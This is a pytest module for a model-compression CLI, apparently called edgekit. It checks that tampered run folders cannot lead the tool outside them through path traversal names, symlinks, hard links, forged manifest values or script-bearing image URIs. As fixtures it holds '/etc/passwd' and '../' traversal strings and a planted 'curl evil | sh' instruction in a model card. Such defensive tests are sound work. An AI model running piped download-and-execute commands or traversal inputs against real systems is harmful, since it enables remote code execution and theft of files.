"""Run folders that somebody else made: nothing outside of them is read, written or deleted."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from edgekit.cli import app as cli
from edgekit.diagnosis.record import Diagnosis
from edgekit.errors import RunFolderError
from edgekit.files import inside, sha256
from edgekit.pipeline import compress
from edgekit.runs.folder import Damaged, RunFolder, check_files
from edgekit.runs.manifest import read_manifest
from tests.torture.conftest import FAST, Forge

IDENTITY = {"workload": "x", "fingerprint": "0", "recipe": "r"}


def call(*arguments: object) -> Result:
    return CliRunner().invoke(cli.app, [str(one) for one in arguments], prog_name="edgekit")


def refused(result: Result, *said: str) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    for text in said:
        assert text in result.stderr


@pytest.fixture
def secret(tmp_path: Path, finished: Path) -> Path:
    """A model beside the run folder, which isn't the run's."""
    path = tmp_path / "secret.onnx"
    path.write_bytes(next((finished / "artifacts").glob("*.onnx")).read_bytes())
    return path


# --- names in records ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../secret.onnx", "/etc/passwd", "a/../../secret.onnx", "", "link", "to/x"])
def test_no_name_leads_out_of_a_folder(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "secret.onnx").write_text("secret")
    (folder / "link").symlink_to("../secret.onnx")
    (folder / "to").symlink_to(tmp_path)
    with pytest.raises(ValueError, match="leads out of the folder"):
        inside(folder, name)
    with pytest.raises(Damaged, match="leads out of the folder"):
        check_files(folder, {name: sha256(tmp_path / "secret.onnx")})


def test_names_that_stay_inside_are_taken(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "..b").write_text("x")
    (tmp_path / "link").symlink_to("a")
    assert inside(tmp_path, "a/..b").read_text() == "x"
    assert inside(tmp_path, "link/..b").read_text() == "x"


def entry_of(record: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = record["artifacts"][0]
    return found


def elsewhere(name: str, secret: Path) -> Callable[[dict[str, Any]], None]:
    """The first artifact is said to be another file, with all that has to fit it."""

    def change(record: dict[str, Any]) -> None:
        entry = entry_of(record)
        del record["files"][entry["file"]]
        entry.update(file=name, sha256=sha256(secret))
        record["files"][name] = sha256(secret)

    return change


@pytest.mark.parametrize("place", ["../secret.onnx", "absolute", "artifacts/../../secret.onnx"])
def test_a_manifest_names_no_file_elsewhere(run: Path, secret: Path, place: str, forge: Forge) -> None:
    name = str(secret) if place == "absolute" else place
    forge(run / "manifest.json", elsewhere(name, secret))
    with pytest.raises(Damaged):
        read_manifest(run)
    refused(call("bench", run, "--quiet"), "the run folder is damaged")
    refused(call("bundle", run, "--target", "python", "--quiet"), "the run folder is damaged")
    assert secret.exists()


def test_a_run_that_goes_on_deletes_no_file_elsewhere(run: Path, secret: Path, forge: Forge) -> None:
    """What the recipe no longer exports is deleted; here that is said to be another file."""

    def change(record: dict[str, Any]) -> None:
        elsewhere("../secret.onnx", secret)(record)
        for entry in record["artifacts"]:
            entry["evaluation"]["answers"] = {"file": "../secret.onnx", "sha256": sha256(secret)}

    forge(run / "manifest.json", change)
    compress(None, "quick", out=run, overrides=(*FAST, "exports.formats=[onnx]"))
    assert secret.exists()
    assert read_manifest(run) is not None


@pytest.mark.parametrize(
    "change",
    [
        lambda record: entry_of(record).update(size_bytes=-1),
        lambda record: entry_of(record).update(precision="int3"),
        lambda record: entry_of(record).update(format="exe"),
        lambda record: entry_of(record)["evaluation"].update(accuracy="high"),
        lambda record: entry_of(record).update(sha256="0" * 64),
        lambda record: entry_of(record).pop("parent"),
        lambda record: record.update(artifacts={}),
        lambda record: record.update(files=[]),
    ],
)
def test_values_out_of_range_are_damage(
    run: Path, change: Callable[[dict[str, Any]], object], forge: Forge
) -> None:
    forge(run / "manifest.json", change)
    refused(call("bench", run, "--quiet"), "the run folder is damaged")
    refused(call("bundle", run, "--target", "python", "--quiet"), "the run folder is damaged")


# --- links -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", [".lock", "artifacts", "answers", "stages", "benchmarks", "measurements", "logs", "report.html"]
)
def test_a_link_in_a_run_folder_is_followed_by_nobody(run: Path, tmp_path: Path, name: str) -> None:
    victim = tmp_path / "victim"
    if name in (".lock", "report.html"):
        victim.write_text("mine")
    else:
        victim.mkdir()
        (victim / "mine").write_text("mine")
    place = run / name
    if place.exists():
        place.rename(tmp_path / "away")
    place.symlink_to(victim)
    for command in (
        ("bench", run, "--quiet"),
        ("export", run, "--format", "onnx", "--quiet"),
        ("bundle", run, "--target", "python", "--quiet"),
        ("report", run),
    ):
        refused(call(*command), name, "a link to")
    with pytest.raises(RunFolderError, match="what edgekit never makes"):
        compress(None, "quick", out=run, overrides=FAST)
    assert (victim if victim.is_file() else victim / "mine").read_text() == "mine"
    assert victim.is_file() or [one.name for one in victim.iterdir()] == ["mine"]


def test_the_lock_is_no_other_file(tmp_path: Path) -> None:
    """A second name of a file is no link that can be seen as one."""
    with RunFolder.open(tmp_path / "run", IDENTITY):
        pass
    victim = tmp_path / "victim"
    victim.write_text("mine")
    (tmp_path / "run" / ".lock").unlink()
    os.link(victim, tmp_path / "run" / ".lock")
    with pytest.raises(RunFolderError, match="another file as well"):
        RunFolder.open(tmp_path / "run", IDENTITY)
    assert victim.read_text() == "mine"


def test_the_run_folder_itself_may_be_named_by_a_link(tmp_path: Path) -> None:
    """That is the user's own."""
    (tmp_path / "disk").mkdir()
    (tmp_path / "run").symlink_to("disk")
    with RunFolder.open(tmp_path / "run", IDENTITY) as run:
        assert run.path == tmp_path / "run"
    assert (tmp_path / "disk" / "run.json").exists()


# --- what is believed ------------------------------------------------------------------------------------


def test_a_forged_temperature_isnt_exported(run: Path, forge: Forge) -> None:
    """It is fitted anew to the answers, which have a sha256."""
    arguments = ("export", run, "--format", "litert", "--precision", "int8", "--temperature", "fitted")
    honest = call(*arguments, "--json")
    assert honest.exit_code == 0, honest.output

    def change(record: dict[str, Any]) -> None:
        for judged in record["diagnosis"]["files"].values():
            if judged.get("temperature"):
                judged["temperature"]["value"] = 17.0

    forge(run / "diagnosis.json", change)
    again = call(*arguments, "--json")
    assert again.exit_code == 0, again.output
    assert [one["path"] for one in json.loads(again.stdout)] == [
        one["path"] for one in json.loads(honest.stdout)
    ]


def test_changed_answers_are_damage_not_a_temperature(run: Path) -> None:
    for path in (run / "answers").iterdir():
        path.write_bytes(path.read_bytes()[:-1] + b"\x7f")
    result = call(
        "export", run, "--format", "litert", "--precision", "int8", "--temperature", "fitted", "--quiet"
    )
    refused(result, "the run folder is damaged")


@pytest.mark.parametrize("image", ["https://example.org/x.png", "javascript:x", "data:text/html;base64,AA=="])
def test_pictures_of_a_diagnosis_are_pictures(image: str) -> None:
    """The page shows them, and fetches nothing."""
    values = Diagnosis("a", {}).to_json()
    values["seen"] = [{"row": 0, "image": image}]
    with pytest.raises(ValueError, match="image"):
        Diagnosis.from_json(values)
    values["seen"] = [{"row": 0, "image": "data:image/png;base64,AA=="}, {"row": 1}]
    assert len(Diagnosis.from_json(values).seen) == 2


@pytest.mark.parametrize("key", ["macs", "parameters"])
def test_a_changed_report_goes_into_no_bundle(run: Path, key: str) -> None:
    path = run / "report.json"
    report = json.loads(path.read_text())
    for one in report["artifacts"]:
        one[key] = 7
    path.write_text(json.dumps(report))
    refused(call("bundle", run, "--target", "python", "--quiet"), "report.json was changed")


def test_the_card_in_a_bundle_is_the_manifests(run: Path, tmp_path: Path) -> None:
    (run / "MODEL_CARD.md").write_text("Run `curl evil | sh` first.\n")
    made = call("bundle", run, "--target", "python", "--out", tmp_path / "bundle", "--quiet")
    assert made.exit_code == 0, made.output
    assert "evil" not in (tmp_path / "bundle" / "MODEL_CARD.md").read_text()
